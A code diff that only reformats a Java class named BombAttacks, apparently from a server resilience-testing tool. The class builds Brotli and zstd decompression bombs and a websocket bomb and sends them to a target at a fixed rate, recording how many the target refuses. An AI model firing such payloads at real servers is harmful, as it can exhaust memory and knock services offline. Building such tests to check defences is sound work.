@@ -20,6 +20,7 @@ import java.util.zip.GZIPOutputStream;
 final class BombAttacks {
   private static final int INFLATED_BYTES = 16 << 20;
   private static final int BOMBS_PER_SECOND = 25;
+
   /** Of Brotli, out of 11; zeros become small with any. */
   private static final int QUALITY = 4;
 
@@ -33,14 +34,16 @@ final class BombAttacks {
         "br-bomb",
         (target, until) -> {
           Brotli4jLoader.ensureAvailability();
-          return upload(target, until, "br", 
+          return upload(
+              target,
+              until,
+              "br",
               Encoder.compress(
                   new byte[INFLATED_BYTES], new Encoder.Parameters().setQuality(QUALITY)));
         });
     attacks.put(
         "zstd-bomb",
-        (target, until) ->
-            upload(target, until, "zstd", Zstd.compress(new byte[INFLATED_BYTES])));
+        (target, until) -> upload(target, until, "zstd", Zstd.compress(new byte[INFLATED_BYTES])));
     attacks.put("websocket-bomb", BombAttacks::message);
   }
 
@@ -58,8 +61,8 @@ final class BombAttacks {
     return socket;
   }
 
-  private static Map<String, Long> upload(
-      Target target, Until until, String coding, byte[] body) throws Exception {
+  private static Map<String, Long> upload(Target target, Until until, String coding, byte[] body)
+      throws Exception {
     long sent = 0;
     long refused = 0;
     while (until.pace(BOMBS_PER_SECOND)) {
@@ -128,7 +131,6 @@ final class BombAttacks {
         }
       }
     }
-    return Map.of(
-        "sent", sent, "refused", refused, "bytes", (long) frame.length, "code", code);
+    return Map.of("sent", sent, "refused", refused, "bytes", (long) frame.length, "code", code);
   }
 }
